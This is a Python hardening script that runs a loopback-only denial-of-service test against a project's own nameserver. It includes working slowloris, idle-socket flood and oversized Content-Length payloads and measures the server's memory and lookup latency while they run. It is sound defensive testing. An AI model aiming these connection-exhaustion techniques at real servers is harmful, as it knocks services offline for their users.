#!/usr/bin/env python3
"""Connection-exhaustion attack on rafiki-nameserver, on loopback only (issue 13, finding 6).

Starts the server (SQLite in a temporary folder), then from 127.0.0.1 opens up to --idle silent
sockets (about 20,000; the open-file limit is raised to its maximum and respected), --slow
slowloris heads (one byte a second, never finished) and --huge requests announcing
Content-Length 10^12 with no body, while it times a lookup every 0.2 s from 127.0.0.2 (another
client) and from 127.0.0.1 (the attacker's own address). Reports the server's RSS before, at
peak and after, how long the attack's sockets lived, and lookup latency before and during.

    python3 Scripts/hardening/slowloris.py --server .build/release/rafiki-nameserver
    python3 Scripts/hardening/slowloris.py --server ... --server-arg=--max-connections-per-ip=0

Stdlib only; bounded by --duration; stops the server and closes every socket when done.
"""
import argparse
import os
import resource
import selectors
import shutil
import socket
import statistics
import subprocess
import sys
import tempfile
import time

LOOKUP = b"GET /name/nobody HTTP/1.1\r\nHost: ns\r\nConnection: close\r\n\r\n"
HUGE = b"POST /name/alice HTTP/1.1\r\nHost: ns\r\nContent-Type: application/json\r\nContent-Length: 1000000000000\r\n\r\n"
SLOW_HEAD = b"GET /name/alice HTTP/1.1\r\nHost: ns\r\nX-Slow: " + b"a" * 4000


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def open_fds(pid):
    try:
        return len(os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        return -1


def lookup(port, source, timeout=5.0):
    """One lookup on a new connection: latency in ms, or None when it failed."""
    started = time.monotonic()
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=timeout, source_address=(source, 0)) as s:
            s.sendall(LOOKUP)
            data = b""
            while b"\r\n\r\n" not in data:
                chunk = s.recv(4096)
                if not chunk:
                    break
                data += chunk
            if not data.startswith(b"HTTP/1.1 404"):
                return None
    except OSError:
        return None
    return (time.monotonic() - started) * 1000


def summary(values):
    if not values:
        return "none"
    values = sorted(values)
    p99 = values[min(len(values) - 1, int(len(values) * 0.99))]
    return f"n={len(values)} p50={statistics.median(values):.1f} p99={p99:.1f} max={values[-1]:.1f}"


class Attack:
    """The attacker's sockets, watched with epoll until the server closes them."""

    def __init__(self):
        self.selector = selectors.DefaultSelector()
        self.opened = {}      # socket -> (kind, time opened)
        self.lifetimes = {"idle": [], "slow": [], "huge": []}
        self.refused = {"idle": 0, "slow": 0, "huge": 0}

    def open(self, port, kind, first_bytes=b""):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(True)
        s.settimeout(2)
        try:
            s.bind(("127.0.0.1", 0))
            s.connect(("127.0.0.1", port))
            if first_bytes:
                s.sendall(first_bytes)
        except OSError:
            s.close()
            self.refused[kind] += 1
            return
        s.setblocking(False)
        self.opened[s] = (kind, time.monotonic())
        self.selector.register(s, selectors.EVENT_READ)

    def closed(self, s, now):
        kind, since = self.opened.pop(s)
        self.lifetimes[kind].append(now - since)
        self.selector.unregister(s)
        s.close()

    def poll(self, timeout=0):
        now = time.monotonic()
        for key, _ in self.selector.select(timeout):
            s = key.fileobj
            try:
                if s.recv(65536) == b"":
                    self.closed(s, now)
            except BlockingIOError:
                pass
            except OSError:
                self.closed(s, now)

    def trickle(self, offset):
        """One more byte of each slowloris head."""
        now = time.monotonic()
        for s, (kind, _) in list(self.opened.items()):
            if kind != "slow":
                continue
            try:
                s.send(SLOW_HEAD[offset % len(SLOW_HEAD):offset % len(SLOW_HEAD) + 1])
            except OSError:
                self.closed(s, now)

    def close_all(self):
        now = time.monotonic()
        still = {"idle": 0, "slow": 0, "huge": 0}
        for s, (kind, since) in list(self.opened.items()):
            still[kind] += 1
            self.lifetimes[kind].append(now - since)
            self.selector.unregister(s)
            s.close()
        self.opened.clear()
        return still


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--server", required=True, help="path to the rafiki-nameserver binary")
    parser.add_argument("--server-arg", action="append", default=[], help="extra argument for the server (repeatable)")
    parser.add_argument("--idle", type=int, default=20000, help="silent sockets to open (default 20000)")
    parser.add_argument("--slow", type=int, default=200, help="slowloris heads (default 200)")
    parser.add_argument("--huge", type=int, default=200, help="Content-Length 10^12 requests (default 200)")
    parser.add_argument("--duration", type=float, default=70, help="seconds the attack lasts after the sockets are open (default 70)")
    args = parser.parse_args()

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    budget = hard - 256
    total = args.idle + args.slow + args.huge
    if total > budget:
        args.idle = max(0, budget - args.slow - args.huge)
        print(f"open-file limit {hard}: idle sockets lowered to {args.idle}")

    folder = tempfile.mkdtemp(prefix="rafiki-slowloris-")
    command = [args.server, "--host", "127.0.0.1", "--port", "0", "--database", os.path.join(folder, "names.sqlite"),
               "--log-level", "notice", *args.server_arg]
    server = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=open(os.path.join(folder, "server.log"), "w"), text=True)
    attack = Attack()
    try:
        line = server.stdout.readline().strip()
        if not line.startswith("ready http://"):
            sys.exit(f"server did not start: {line!r}")
        port = int(line.rsplit(":", 1)[1])
        print(f"server pid {server.pid} on port {port}: {' '.join(command[1:])}")
        time.sleep(0.5)
        rss_before = rss_kib(server.pid)
        baseline = [lookup(port, "127.0.0.2") for _ in range(20)]
        print(f"before: RSS {rss_before / 1024:.1f} MiB, fds {open_fds(server.pid)}, lookups ms {summary([b for b in baseline if b is not None])}")

        started = time.monotonic()
        for i in range(args.slow):
            attack.open(port, "slow", SLOW_HEAD[:1])
        for i in range(args.huge):
            attack.open(port, "huge", HUGE)
        for i in range(args.idle):
            attack.open(port, "idle")
            if i % 500 == 0:
                attack.poll()
        print(f"opened {args.idle} idle, {args.slow} slow, {args.huge} huge in {time.monotonic() - started:.1f} s "
              f"(connect failures: {attack.refused})")

        latencies = {"127.0.0.2": [], "127.0.0.1": []}
        failures = {"127.0.0.2": 0, "127.0.0.1": 0}
        rss_peak, fds_peak = rss_kib(server.pid), open_fds(server.pid)
        offset, next_byte, next_lookup = 1, time.monotonic() + 1, time.monotonic()
        end = time.monotonic() + args.duration
        while time.monotonic() < end:
            attack.poll(0.05)
            now = time.monotonic()
            if now >= next_byte:
                attack.trickle(offset)
                offset += 1
                next_byte = now + 1
                rss_peak, fds_peak = max(rss_peak, rss_kib(server.pid)), max(fds_peak, open_fds(server.pid))
            if now >= next_lookup:
                for source in latencies:
                    ms = lookup(port, source)
                    if ms is None:
                        failures[source] += 1
                    else:
                        latencies[source].append(ms)
                next_lookup = now + 0.2
        open_at_end = {kind: 0 for kind in attack.lifetimes}
        for kind, _ in attack.opened.values():
            open_at_end[kind] += 1
        rss_attack_end, fds_attack_end = rss_kib(server.pid), open_fds(server.pid)
        attack.close_all()
        time.sleep(2)
        rss_after = rss_kib(server.pid)

        print(f"during {args.duration:.0f} s of attack: RSS peak {rss_peak / 1024:.1f} MiB (at the end {rss_attack_end / 1024:.1f} MiB), "
              f"server fds peak {fds_peak} (at the end {fds_attack_end})")
        for source in latencies:
            print(f"  lookups from {source}: ms {summary(latencies[source])}, failed {failures[source]}")
        for kind in ("idle", "slow", "huge"):
            lived = attack.lifetimes[kind]
            print(f"  {kind} sockets: lived s {summary(lived)}, still open when the attack ended {open_at_end[kind]}")
        print(f"after: RSS {rss_after / 1024:.1f} MiB, fds {open_fds(server.pid)}, lookup ms {summary([m for m in [lookup(port, '127.0.0.2') for _ in range(20)] if m is not None])}")
    finally:
        attack.close_all()
        server.terminate()
        try:
            server.wait(timeout=15)
        except subprocess.TimeoutExpired:
            server.kill()
            server.wait()
        with open(os.path.join(folder, "server.log")) as log:
            lines = [l.rstrip() for l in log if "closed by the limits" in l]
        print(f"server log: {len(lines)} lines about closed connections" + (f", e.g. {lines[-1][:200]}" if lines else ""))
        shutil.rmtree(folder, ignore_errors=True)


if __name__ == "__main__":
    main()
